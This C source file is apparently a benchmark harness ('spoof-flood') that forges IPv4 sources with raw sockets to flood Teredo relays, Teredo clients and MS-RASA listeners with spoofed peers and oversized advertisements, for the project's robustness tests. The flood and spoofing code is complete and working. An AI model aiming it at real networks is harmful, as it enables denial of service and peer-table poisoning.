/*
 * spoof-flood: the attacks of issue 17 at their rates, with many distinct (spoofed) sources, for
 * bench/hostile/run.mjs. Three modes:
 *
 *   teredo  raw IPv4 (IP_HDRINCL) UDP datagrams to --dst:--port whose IPv4 source is forged: peer i of --peers is
 *           (--src-base + i % --src-hosts, port 1024 + i / --src-hosts), and each carries an IPv6/UDP packet to
 *           --dst6 port 9 from the Teredo address that embeds exactly that forged source (served by --server):
 *           RFC 4380 §5.4.2 (b) / §5.2.3 case 3 take such a peer on the strength of its address alone. Aimed at
 *           a relay, this poisons its peer table; aimed at a client's mapping (--dst6 its Teredo address), it
 *           is the client's flood of spoofed peers.
 *   rasadv  raw IPv4 UDP [MS-RASA] advertisements to --dst:--port (a multicast group) from forged senders (as
 *           above): 3 in 4 at the protocol's bounds (a distinct 63-byte host name, a 253-byte domain: a new
 *           table entry each), 1 in 4 with a 1,400-byte host name (must be dropped).
 *   tun     plain UDP from this host (a native IPv6 host behind the relay) to --peers distinct Teredo
 *           destinations embedding --server and mappings 11.0.0.0 + i (global, nobody in the lab), port 9: the
 *           native side's flood of pending peers (each queues a packet and makes the relay bubble), from
 *           --src6 when given (an address of this host: the attacker is another native /64 than the measured one).
 *
 *   spoof-flood --mode teredo|rasadv|tun --dst A.B.C.D --port P [--dst6 IPV6] [--server A.B.C.D]
 *               [--src-base A.B.C.D] [--src-hosts 100] [--src6 IPV6] [--peers 20000] [--count 100000] [--rate 20000] [--seed 1]
 *
 * --rate 0: as fast as the socket takes them. Prints one JSON object: sent, peers, seconds, sentPerSec,
 * sendErrors (EAGAIN/ENOBUFS, retried). Runs only inside the benchmark's lab namespaces. Needs root (raw socket).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define MAXLEN 1500
#define IP4 20
#define UDP 8
#define IP6 40
#define INNER (IP6 + UDP + 8) /* IPv6 + UDP + 8 bytes of payload */

#include "flood-common.h"

/* An IPv6/UDP packet to dst6 port 9 with 8 bytes of payload (checksum 0: relays forward, they do not check it). */
static void inner_packet(uint8_t *p, const uint8_t *src6, const struct in6_addr *dst6) {
  memset(p, 0, INNER);
  p[0] = 0x60;
  p[5] = INNER - IP6;
  p[6] = 17;
  p[7] = 64;
  memcpy(p + 8, src6, 16);
  memcpy(p + 24, dst6, 16);
  p[40] = 0x9c; /* source port 40000 */
  p[41] = 0x40;
  p[43] = 9;
  p[45] = INNER - IP6;
}

/* IPv4 + UDP headers for a forged source (the kernel fills in the IPv4 checksum and total length; UDP checksum 0). */
static void outer_headers(uint8_t *p, uint32_t src, uint16_t sport, uint32_t dst, uint16_t dport, int payload) {
  memset(p, 0, IP4 + UDP);
  p[0] = 0x45;
  uint16_t tot = htons((uint16_t)(IP4 + UDP + payload)), ul = htons((uint16_t)(UDP + payload)), sp = htons(sport), dp = htons(dport);
  memcpy(p + 2, &tot, 2);
  p[6] = 0x40; /* DF */
  p[8] = 64;
  p[9] = 17;
  memcpy(p + 12, &src, 4);
  memcpy(p + 16, &dst, 4);
  memcpy(p + 20, &sp, 2);
  memcpy(p + 22, &dp, 2);
  memcpy(p + 24, &ul, 2);
}

/* An [MS-RASA] advertisement: host name unique per sender (63 bytes) and a 253-byte domain, or a 1,400-byte name. */
static int rasadv_text(uint8_t *p, uint32_t peer, int huge) {
  static const char hex[] = "0123456789abcdef";
  int n = sprintf((char *)p, "Hostname=");
  for (int k = 0; k < 8; k++) p[n++] = (uint8_t)hex[(peer >> (28 - 4 * k)) & 15];
  int name = huge ? 1400 : 63;
  memset(p + n, 'h', (size_t)(name - 8));
  n += name - 8;
  if (!huge) {
    n += sprintf((char *)p + n, "\nDomain=");
    memset(p + n, 'd', 253);
    n += 253;
  }
  p[n++] = '\n';
  p[n++] = 0;
  return n;
}

int main(int argc, char **argv) {
  const char *mode = arg(argc, argv, "--mode", "");
  struct in_addr dst, server, base;
  struct in6_addr dst6;
  int is_tun = !strcmp(mode, "tun"), is_rasadv = !strcmp(mode, "rasadv"), is_teredo = !strcmp(mode, "teredo");
  if (!(is_tun || is_rasadv || is_teredo) || inet_pton(AF_INET, arg(argc, argv, "--dst", "0.0.0.0"), &dst) != 1 ||
      inet_pton(AF_INET, arg(argc, argv, "--server", "0.0.0.0"), &server) != 1 ||
      inet_pton(AF_INET, arg(argc, argv, "--src-base", "0.0.0.0"), &base) != 1 || inet_pton(AF_INET6, arg(argc, argv, "--dst6", "::"), &dst6) != 1) {
    fprintf(stderr, "usage: spoof-flood --mode teredo|rasadv|tun --dst A.B.C.D --port P [--dst6 IPV6] [--server A.B.C.D] [--src-base A.B.C.D] [--src-hosts H] [--peers N] [--count N] [--rate R] [--seed S]\n");
    return 2;
  }
  int port = atoi(arg(argc, argv, "--port", "3544"));
  uint32_t hosts = (uint32_t)atol(arg(argc, argv, "--src-hosts", "100"));
  uint32_t peers = (uint32_t)atol(arg(argc, argv, "--peers", "20000"));
  long long count = atoll(arg(argc, argv, "--count", "100000"));
  double rate = atof(arg(argc, argv, "--rate", "20000"));
  rng = 0x9e3779b97f4a7c15ULL * (uint64_t)atoll(arg(argc, argv, "--seed", "1"));
  if (hosts < 1 || peers < 1 || count < 1 || rate < 0 || peers / hosts > 64000) return 2;

  int fd = is_tun ? socket(AF_INET6, SOCK_DGRAM | SOCK_NONBLOCK, 0) : socket(AF_INET, SOCK_RAW | SOCK_NONBLOCK, IPPROTO_RAW);
  int sndbuf = 4 << 20;
  if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &sndbuf, sizeof sndbuf) < 0) {
    perror("spoof-flood: socket");
    return 1;
  }
  const char *src6 = arg(argc, argv, "--src6", NULL);
  if (is_tun && src6) {
    struct sockaddr_in6 me = {.sin6_family = AF_INET6};
    if (inet_pton(AF_INET6, src6, &me.sin6_addr) != 1 || bind(fd, (struct sockaddr *)&me, sizeof me) < 0) {
      perror("spoof-flood: --src6");
      return 1;
    }
  }
  struct sockaddr_in to4 = {.sin_family = AF_INET, .sin_addr = dst, .sin_port = htons(port)};
  struct sockaddr_in6 to6[BATCH];
  static uint8_t bufs[BATCH][MAXLEN];
  struct iovec iov[BATCH];
  struct mmsghdr msgs[BATCH];
  long long sent = 0, errors = 0;
  uint32_t peer = next() % peers;
  double start = now(), t0 = start;
  while (sent < count) {
    int n = count - sent < BATCH ? (int)(count - sent) : BATCH;
    for (int i = 0; i < n; i++, peer = (peer + 1) % peers) {
      uint8_t *p = bufs[i];
      uint32_t src = htonl(ntohl(base.s_addr) + peer % hosts);
      uint16_t sport = (uint16_t)(1024 + peer / hosts);
      int len;
      void *name = &to4;
      socklen_t namelen = sizeof to4;
      if (is_tun) {
        uint8_t a[16];
        teredo_address(a, server.s_addr, htonl(0x0b000000u + peer), (uint16_t)(1024 + (peer & 0x7fff)));
        to6[i] = (struct sockaddr_in6){.sin6_family = AF_INET6, .sin6_port = htons(9)};
        memcpy(&to6[i].sin6_addr, a, 16);
        memset(p, 0, 8);
        len = 8;
        name = &to6[i];
        namelen = sizeof to6[i];
      } else if (is_teredo) {
        uint8_t a[16];
        teredo_address(a, server.s_addr, src, sport);
        inner_packet(p + IP4 + UDP, a, &dst6);
        outer_headers(p, src, sport, dst.s_addr, (uint16_t)port, INNER);
        len = IP4 + UDP + INNER;
      } else {
        int t = rasadv_text(p + IP4 + UDP, peer, (next() & 3) == 3);
        outer_headers(p, src, sport, dst.s_addr, (uint16_t)port, t);
        len = IP4 + UDP + t;
      }
      iov[i] = (struct iovec){.iov_base = p, .iov_len = (size_t)len};
      msgs[i] = (struct mmsghdr){.msg_hdr = {.msg_name = name, .msg_namelen = namelen, .msg_iov = &iov[i], .msg_iovlen = 1}};
    }
    if (send_all(fd, msgs, n, &errors, "spoof-flood: sendmmsg") < 0) return 1;
    sent += n;
    if (rate > 0) {
      double due = t0 + sent / rate, t = now();
      if (due > t) usleep((useconds_t)((due - t) * 1e6));
      else if (t - due > 0.02) t0 = t - sent / rate + 0.02; /* fell behind: catch up by at most 20 ms worth */
    }
  }
  double secs = now() - start;
  printf("{\"sent\":%lld,\"peers\":%u,\"seconds\":%.3f,\"sentPerSec\":%.0f,\"sendErrors\":%lld}\n", sent, peers, secs, sent / secs, errors);
  return 0;
}
